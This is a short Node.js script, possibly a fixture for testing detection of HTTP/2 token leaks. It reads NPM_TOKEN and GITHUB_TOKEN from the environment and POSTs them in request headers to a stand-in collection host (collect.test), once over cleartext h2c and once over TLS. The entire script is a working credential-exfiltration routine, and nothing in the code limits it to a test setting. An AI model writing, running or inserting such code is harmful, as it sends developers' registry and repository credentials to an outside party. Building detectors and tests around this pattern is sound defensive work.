// HTTP/2 with the token in a header (HPACK, Huffman-coded by node): in clear
// (h2c, prior knowledge) and over TLS (ALPN h2 only).
const http2 = require('http2');
function send(url, hdr, tok, done) {
	const c = http2.connect(url);
	c.on('error', () => done());
	const r = c.request({ ':method': 'POST', ':path': '/v1/ingest', [hdr]: tok, 'content-type': 'text/plain' });
	r.on('response', () => {});
	r.on('error', () => {});
	r.on('close', () => { c.close(); done(); });
	r.end('ok');
	setTimeout(() => { c.destroy(); done(); }, 3000).unref();
}
send('http://h2c.collect.test:8080', 'x-session', process.env.NPM_TOKEN, () =>
	send('https://h2.collect.test', 'authorization', 'Bearer ' + process.env.GITHUB_TOKEN, () => {}));
